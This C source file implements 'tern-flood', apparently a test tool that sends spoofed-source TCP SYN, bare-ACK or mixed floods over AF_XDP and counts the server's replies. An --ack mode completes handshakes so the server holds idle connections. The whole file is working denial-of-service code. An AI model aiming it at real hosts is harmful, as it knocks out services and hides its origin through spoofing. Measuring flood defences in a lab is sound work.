// SPDX-License-Identifier: BSD-2-Clause
/*
 * tern-flood: a TCP SYN flood over AF_XDP (copy mode on veth) that counts
 * the replies.
 *
 * SYNs (MSS option only) go from random source addresses of a subnet the
 * sending host does not own and random source ports to --dst:--port. The
 * replies to that subnet are steered by bpf/flood.bpf.o into an AF_XDP
 * socket on each RX queue of --dev (the SYNs go out on queue 0), so the
 * client kernel never sees them (no RSTs) and they are counted here,
 * whichever queue they come in on: SYN-ACKs, RSTs, other. A native XDP program already
 * on the interface is swapped out for the run and back in at the end
 * (flood_xdp.h, borrow): on veth a client kernel on the same interface
 * gets the SYN-ACKs its peer sends with XDP_TX only while one runs, before,
 * during and after the flood. With --ack every SYN-ACK is
 * answered with the ACK that completes the handshake (seq/ack taken from
 * the SYN-ACK, nothing remembered): the server ends up holding established
 * idle connections and this side holds nothing. With --count N exactly N
 * SYNs go out, from N distinct (address, port) pairs. --kind ack sends
 * bare ACKs (random sequence and acknowledgment numbers, no options)
 * instead of SYNs, as an ACK flood does against SYN cookies; --kind mixed
 * alternates SYN and ACK.
 *
 * A line of figures per second on stderr; at the end one summary line on
 * stdout, "key=value" pairs, for scripts. XDP_STATISTICS' rx_dropped and
 * rx_ring_full (summed over the queues) say when replies arrived faster
 * than this tool counts them.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <linux/if_xdp.h>
#include <net/if.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "flood_xdp.h"

#define SYN_TCP_LEN 24          /* 20 + MSS option */
#define SYN_LEN (FL_TCP_OFF + SYN_TCP_LEN)
#define ACK_LEN (FL_TCP_OFF + 20)
#define BATCH 64u
#define RX_BATCH 256u
#define RX_RESERVE 1024u        /* frames kept free for TX */
#define LINGER_NS 300000000ull  /* wait for late replies at the end */
#define NS 1000000000ull

struct opts {
	const char *dev, *bpf_obj;
	uint8_t dst_mac[6];
	uint32_t dst, net, mask; /* network order */
	uint16_t port;
	uint64_t rate, count, passes; /* passes: times the --count pairs are sent */
	double duration;
	int ack, quiet, have_mac;
	enum { KIND_SYN, KIND_ACK, KIND_MIXED } kind;
};

struct counts {
	uint64_t queued;  /* put on the TX ring */
	uint64_t sent;    /* queued minus the ones the device dropped (EBUSY) */
	uint64_t synack, rst, other, acks;
};

static volatile sig_atomic_t stop;

static void on_signal(int sig)
{
	(void)sig;
	stop = 1;
}

static uint64_t now_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * NS + (uint64_t)ts.tv_nsec;
}

static uint64_t rng_state = 0x9e3779b97f4a7c15ull;

static uint64_t rnd(void) /* xorshift64* */
{
	rng_state ^= rng_state >> 12;
	rng_state ^= rng_state << 25;
	rng_state ^= rng_state >> 27;
	return rng_state * 2685821657736338717ull;
}

static void usage(FILE *f)
{
	fprintf(f,
		"Usage: tern-flood --dev IFACE --dst IP --port PORT --dst-mac MAC [options]\n"
		"  --src-net A.B.C.D/N   spoofed source subnet, not owned here (default 10.99.0.0/16)\n"
		"  --rate PPS            SYNs per second, 0 = as fast as possible (default 0)\n"
		"  --duration S          seconds (default 5; with --count: at most this long)\n"
		"  --count N             send exactly N SYNs from N distinct (address, port)\n"
		"  --passes K            with --count: send the N pairs K times, so that a\n"
		"                        handshake lost once completes later (default 1)\n"
		"  --ack                 answer every SYN-ACK with the ACK completing the handshake\n"
		"  --kind syn|ack|mixed  flood of SYNs, of bare ACKs, or both alternately (default syn)\n"
		"  --bpf-obj PATH        flood.bpf.o (default ../bpf/flood.bpf.o from the binary)\n"
		"  --quiet               no per-second lines\n");
}

static int bad(const char *what, const char *arg)
{
	fprintf(stderr, "Error: %s %s: %s\n", what, arg, strerror(EINVAL));
	return -EINVAL;
}

static int parse_u64(const char *what, const char *s, uint64_t max, uint64_t *out)
{
	char *end;
	unsigned long long v;

	errno = 0;
	v = strtoull(s, &end, 10);
	if (!*s || *s == '-' || *end || errno || v > max)
		return bad(what, s);
	*out = v;
	return 0;
}

static int parse_net(struct opts *o, const char *s)
{
	char buf[32], *slash;
	uint64_t bits;
	struct in_addr a;

	snprintf(buf, sizeof(buf), "%s", s);
	slash = strchr(buf, '/');
	if (!slash)
		return bad("--src-net", s);
	*slash = '\0';
	if (inet_pton(AF_INET, buf, &a) != 1 || parse_u64("--src-net", slash + 1, 24, &bits) ||
	    bits < 8)
		return bad("--src-net (a /8../24)", s);
	o->mask = htonl(~0u << (32 - bits));
	o->net = a.s_addr & o->mask;
	return 0;
}

static int parse(struct opts *o, int argc, char **argv)
{
	static const struct option lo[] = {
		{ "dev", required_argument, NULL, 'd' },   { "dst", required_argument, NULL, 'D' },
		{ "port", required_argument, NULL, 'p' },  { "dst-mac", required_argument, NULL, 'm' },
		{ "src-net", required_argument, NULL, 'n' }, { "rate", required_argument, NULL, 'r' },
		{ "duration", required_argument, NULL, 't' }, { "count", required_argument, NULL, 'c' },
		{ "passes", required_argument, NULL, 'P' },
		{ "ack", no_argument, NULL, 'a' },         { "bpf-obj", required_argument, NULL, 'b' },
		{ "quiet", no_argument, NULL, 'q' },       { "help", no_argument, NULL, 'h' },
		{ "kind", required_argument, NULL, 'k' },
		{ NULL, 0, NULL, 0 },
	};
	struct in_addr a;
	uint64_t v;
	char *end;
	int c;

	memset(o, 0, sizeof(*o));
	o->duration = 5;
	o->passes = 1;
	parse_net(o, "10.99.0.0/16");
	while ((c = getopt_long(argc, argv, "", lo, NULL)) != -1) {
		switch (c) {
		case 'd': o->dev = optarg; break;
		case 'D':
			if (inet_pton(AF_INET, optarg, &a) != 1)
				return bad("--dst", optarg);
			o->dst = a.s_addr;
			break;
		case 'p':
			if (parse_u64("--port", optarg, 65535, &v) || !v)
				return bad("--port", optarg);
			o->port = (uint16_t)v;
			break;
		case 'm':
			if (sscanf(optarg, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &o->dst_mac[0],
				   &o->dst_mac[1], &o->dst_mac[2], &o->dst_mac[3], &o->dst_mac[4],
				   &o->dst_mac[5]) != 6)
				return bad("--dst-mac", optarg);
			o->have_mac = 1;
			break;
		case 'n': if (parse_net(o, optarg)) return -EINVAL; break;
		case 'r': if (parse_u64("--rate", optarg, 100000000, &o->rate)) return -EINVAL; break;
		case 'c': if (parse_u64("--count", optarg, 1ull << 40, &o->count)) return -EINVAL; break;
		case 'P':
			if (parse_u64("--passes", optarg, 1000, &o->passes))
				return -EINVAL;
			if (!o->passes)
				return bad("--passes", optarg);
			break;
		case 't':
			o->duration = strtod(optarg, &end);
			if (*end || !(o->duration > 0 && o->duration <= 86400))
				return bad("--duration", optarg);
			break;
		case 'a': o->ack = 1; break;
		case 'b': o->bpf_obj = optarg; break;
		case 'q': o->quiet = 1; break;
		case 'k':
			if (!strcmp(optarg, "syn"))
				o->kind = KIND_SYN;
			else if (!strcmp(optarg, "ack"))
				o->kind = KIND_ACK;
			else if (!strcmp(optarg, "mixed"))
				o->kind = KIND_MIXED;
			else
				return bad("--kind", optarg);
			break;
		case 'h': usage(stdout); exit(0);
		default: usage(stderr); return -EINVAL;
		}
	}
	if (!o->dev || !o->dst || !o->port || !o->have_mac) {
		usage(stderr);
		return -EINVAL;
	}
	if (o->count && o->count > (uint64_t)(ntohl(~o->mask) - 1) * 64512) {
		fprintf(stderr, "Error: --count: more than the subnet's address x port pairs\n");
		return -EINVAL;
	}
	return 0;
}

static int dev_mac(const char *dev, uint8_t mac[6])
{
	struct ifreq ifr;
	int fd = socket(AF_INET, SOCK_DGRAM, 0), err = 0;

	if (fd < 0)
		return -errno;
	memset(&ifr, 0, sizeof(ifr));
	snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", dev);
	if (ioctl(fd, SIOCGIFHWADDR, &ifr))
		err = -errno;
	else
		memcpy(mac, ifr.ifr_hwaddr.sa_data, 6);
	close(fd);
	return err;
}

/* The fixed part of every SYN. */
static void syn_template(uint8_t *t, const struct opts *o, const uint8_t src_mac[6])
{
	uint8_t *ip = t + FL_ETH, *tcp = t + FL_TCP_OFF;

	memset(t, 0, SYN_LEN);
	memcpy(t, o->dst_mac, 6);
	memcpy(t + 6, src_mac, 6);
	t[12] = 0x08;
	ip[0] = 0x45;
	ip[3] = FL_IP + SYN_TCP_LEN;
	ip[6] = 0x40; /* DF */
	ip[8] = 64;
	ip[9] = 6;
	memcpy(ip + 16, &o->dst, 4);
	tcp[2] = (uint8_t)(o->port >> 8);
	tcp[3] = (uint8_t)o->port;
	tcp[12] = (SYN_TCP_LEN / 4) << 4;
	tcp[13] = FL_TCP_SYN;
	tcp[14] = 0xfa; /* window 64240 */
	tcp[15] = 0xf0;
	tcp[20] = 2; /* MSS 1460 */
	tcp[21] = 4;
	tcp[22] = 0x05;
	tcp[23] = 0xb4;
}

/* The SYN in f turned into a bare ACK with a random acknowledgment
 * number; returns the frame's length. */
static uint32_t syn_to_ack(uint8_t *f, uint64_t r)
{
	uint8_t *ip = f + FL_ETH, *tcp = f + FL_TCP_OFF;

	ip[3] = FL_IP + 20;
	tcp[12] = 5 << 4;
	tcp[13] = FL_TCP_ACK;
	tern_flood__put32(tcp + 8, (uint32_t)(r >> 7) ^ (uint32_t)(r << 9));
	tern_flood__csum(f, 20);
	return ACK_LEN;
}

/* Frame number i: a SYN (or an ACK, per --kind) from a random source, or
 * from the i-th distinct (address, port) pair with --count; returns its
 * length. */
static uint32_t syn_fill(uint8_t *f, const uint8_t *tmpl, const struct opts *o, uint64_t i)
{
	uint64_t seq = i;
	uint32_t hosts = ntohl(~o->mask), host, port, saddr;
	uint64_t r = rnd();

	if (o->count) {
		i %= o->count;
		host = (uint32_t)(i / 64512) + 1;
		port = (uint32_t)(i % 64512) + 1024;
	} else {
		host = (uint32_t)(r % (hosts - 1)) + 1;
		port = (uint32_t)((r >> 32) % 64512) + 1024;
	}
	memcpy(f, tmpl, SYN_LEN);
	saddr = o->net | htonl(host);
	memcpy(f + FL_ETH + 12, &saddr, 4);
	f[FL_TCP_OFF] = (uint8_t)(port >> 8);
	f[FL_TCP_OFF + 1] = (uint8_t)port;
	tern_flood__put32(f + FL_TCP_OFF + 4, (uint32_t)(r >> 17));
	if (o->kind == KIND_ACK || (o->kind == KIND_MIXED && (seq & 1)))
		return syn_to_ack(f, r);
	tern_flood__csum(f, SYN_TCP_LEN);
	return SYN_LEN;
}

/* Queue up to n SYNs on the TX ring; returns how many. */
static uint32_t send_syns(struct tern_flood_q *q, const uint8_t *tmpl, const struct opts *o,
			  struct counts *c, uint32_t n)
{
	uint32_t idx, i;

	if (q->frames.c.n[TERN_FS_FREE] < n)
		n = q->frames.c.n[TERN_FS_FREE];
	n = xsk_ring_prod__reserve(&q->xsk.tx, n, &idx);
	for (i = 0; i < n; i++) {
		struct xdp_desc *d = xsk_ring_prod__tx_desc(&q->xsk.tx, idx + i);
		uint64_t b = 0;

		tern_frames__get(&q->frames, TERN_FS_TX, &b);
		d->len = syn_fill(xsk_umem__get_data(q->xsk.area, b), tmpl, o, c->queued + i);
		d->addr = b;
	}
	if (n)
		xsk_ring_prod__submit(&q->xsk.tx, n);
	c->queued += n;
	return n;
}

/* The ACK completing the handshake, built over the SYN-ACK in place. */
static uint32_t ack_from_synack(uint8_t *f)
{
	uint8_t *ip = f + FL_ETH, *tcp = f + FL_TCP_OFF;
	uint32_t seq = tern_flood__be32(tcp + 4), ack = tern_flood__be32(tcp + 8);

	tern_flood__swap(f);
	ip[2] = 0;
	ip[3] = FL_IP + 20;
	ip[4] = ip[5] = 0;
	tern_flood__put32(tcp + 4, ack);
	tern_flood__put32(tcp + 8, seq + 1);
	tcp[12] = 5 << 4;
	tcp[13] = FL_TCP_ACK;
	tcp[18] = tcp[19] = 0;
	tern_flood__csum(f, 20);
	return ACK_LEN;
}

/* One TX ring slot; when the ring is full of SYNs, send them first. */
static bool tx_slot(struct tern_flood_q *q, uint32_t *idx)
{
	if (xsk_ring_prod__reserve(&q->xsk.tx, 1, idx) == 1)
		return true;
	tern_xsk__kick(&q->xsk, &q->frames);
	return xsk_ring_prod__reserve(&q->xsk.tx, 1, idx) == 1;
}

/* Count what came back on one queue; with --ack answer SYN-ACKs on it
 * (the frame is reused for the ACK when the TX ring has room). */
static void receive(struct tern_flood_q *q, const struct opts *o, struct counts *c)
{
	struct tern_frames *fr = &q->frames;
	uint32_t idx, n = xsk_ring_cons__peek(&q->xsk.rx, RX_BATCH, &idx);

	for (uint32_t i = 0; i < n; i++) {
		const struct xdp_desc *d = xsk_ring_cons__rx_desc(&q->xsk.rx, idx + i);
		uint64_t b = tern_frames__base(fr, d->addr);
		uint8_t *f = xsk_umem__get_data(q->xsk.area, d->addr);
		uint32_t tl = tern_flood__tcp_len(f, d->len), tidx;
		uint8_t flags = tl ? f[FL_TCP_OFF + 13] : 0;

		tern_frames__move(fr, b, TERN_FS_FILL, TERN_FS_RX);
		if ((flags & (FL_TCP_SYN | FL_TCP_ACK)) == (FL_TCP_SYN | FL_TCP_ACK)) {
			c->synack++;
			if (o->ack && tx_slot(q, &tidx)) {
				struct xdp_desc *t = xsk_ring_prod__tx_desc(&q->xsk.tx, tidx);

				t->addr = d->addr;
				t->len = ack_from_synack(f);
				tern_frames__move(fr, b, TERN_FS_RX, TERN_FS_TX);
				xsk_ring_prod__submit(&q->xsk.tx, 1);
				c->acks++;
				continue;
			}
		} else if (flags & FL_TCP_RST) {
			c->rst++;
		} else {
			c->other++;
		}
		tern_frames__put(fr, b, TERN_FS_RX);
	}
	if (n)
		xsk_ring_cons__release(&q->xsk.rx, n);
}

static void xdp_stats(int fd, struct xdp_statistics *st)
{
	socklen_t len = sizeof(*st);

	if (getsockopt(fd, SOL_XDP, XDP_STATISTICS, st, &len))
		memset(st, 0, sizeof(*st));
}

static void print_second(double t, const struct counts *c, const struct counts *p, double dt)
{
	fprintf(stderr, "tern-flood: %5.1fs sent %9.0f/s synack %9.0f/s rst %7.0f/s acks %9.0f/s\n",
		t, (double)(c->sent - p->sent) / dt, (double)(c->synack - p->synack) / dt,
		(double)(c->rst - p->rst) / dt, (double)(c->acks - p->acks) / dt);
}

static void summary(const struct counts *c, double secs, const struct tern_flood_xdp *fx)
{
	struct xdp_statistics st = { 0 };
	uint64_t busy = 0;
	bool bad = false;

	for (uint32_t i = 0; i < fx->nq; i++) {
		struct xdp_statistics q;

		xdp_stats(fx->q[i].xsk.fd, &q);
		st.rx_dropped += q.rx_dropped;
		st.rx_ring_full += q.rx_ring_full;
		st.tx_invalid_descs += q.tx_invalid_descs;
		busy += fx->q[i].xsk.st.kick_busy;
		bad |= tern_frames__check(&fx->q[i].frames.c) != 0;
	}
	printf("queued=%llu sent=%llu seconds=%.3f sent_pps=%.0f synack=%llu synack_pps=%.0f "
	       "reply_ratio=%.4f rst=%llu other=%llu acks=%llu rx_dropped=%llu "
	       "rx_ring_full=%llu tx_invalid=%llu kick_busy=%llu frames=%s\n",
	       (unsigned long long)c->queued, (unsigned long long)c->sent, secs,
	       (double)c->sent / secs,
	       (unsigned long long)c->synack, (double)c->synack / secs,
	       c->sent ? (double)c->synack / (double)c->sent : 0.0, (unsigned long long)c->rst,
	       (unsigned long long)c->other, (unsigned long long)c->acks,
	       (unsigned long long)st.rx_dropped, (unsigned long long)st.rx_ring_full,
	       (unsigned long long)st.tx_invalid_descs,
	       (unsigned long long)busy, bad ? "BAD" : "ok");
}

/* One queue's turn: TX out, completions back, replies counted, RX refilled. */
static void queue_step(struct tern_flood_q *q, const struct opts *o, struct counts *c)
{
	tern_xsk__kick(&q->xsk, &q->frames);
	tern_xsk__drain_comp(&q->xsk, &q->frames);
	receive(q, o, c);
	tern_xsk__kick(&q->xsk, &q->frames);
	tern_xsk__refill(&q->xsk, &q->frames, RX_RESERVE);
}

static void run(struct tern_flood_xdp *fx, const struct opts *o, const uint8_t *tmpl)
{
	uint64_t t0 = now_ns(), end = t0 + (uint64_t)(o->duration * NS), tick = t0 + NS;
	uint64_t linger = 0, now;
	struct counts c = { 0 }, prev = { 0 };

	for (;;) {
		now = now_ns();
		if (!o->quiet && now >= tick) {
			print_second((double)(now - t0) / NS, &c, &prev, 1.0 + (double)(now - tick) / NS);
			prev = c;
			tick = now + NS;
		}
		if (!linger && (stop || now >= end || (o->count && c.queued >= o->count * o->passes)))
			linger = now + LINGER_NS;
		if (linger && now >= linger)
			break;
		if (!linger) {
			uint64_t want = BATCH;

			if (o->rate) {
				uint64_t due = (uint64_t)((double)(now - t0) * (double)o->rate / NS);

				want = due > c.queued ? due - c.queued : 0;
				if (want > BATCH)
					want = BATCH;
			}
			if (o->count && want > o->count * o->passes - c.queued)
				want = o->count * o->passes - c.queued;
			send_syns(&fx->q[0], tmpl, o, &c, (uint32_t)want);
		}
		for (uint32_t i = 0; i < fx->nq; i++)
			queue_step(&fx->q[i], o, &c);
		c.sent = c.queued - fx->q[0].xsk.st.kick_busy;
	}
	summary(&c, (double)((linger ? linger - LINGER_NS : now) - t0) / NS, fx);
}

int main(int argc, char **argv)
{
	struct tern_flood_xdp fx;
	struct sigaction sa;
	uint8_t tmpl[SYN_LEN], mac[6];
	const char *what = "";
	struct opts o;
	int err;

	if (parse(&o, argc, argv))
		return 2;
	err = dev_mac(o.dev, mac);
	if (err) {
		fprintf(stderr, "Error: %s: MAC address: %s\n", o.dev, strerror(-err));
		return 1;
	}
	syn_template(tmpl, &o, mac);
	rng_state ^= (uint64_t)getpid() << 32 ^ now_ns();
	memset(&sa, 0, sizeof(sa));
	sa.sa_handler = on_signal;
	sigaction(SIGINT, &sa, NULL);
	sigaction(SIGTERM, &sa, NULL);
	err = tern_flood_xdp__open(&fx, o.bpf_obj, o.dev, o.net, o.mask, true, true, &what);
	if (err) {
		fprintf(stderr, "Error: %s: %s: %s\n", o.dev, what, strerror(-err));
		return 1;
	}
	run(&fx, &o, tmpl);
	tern_flood_xdp__close(&fx);
	return 0;
}
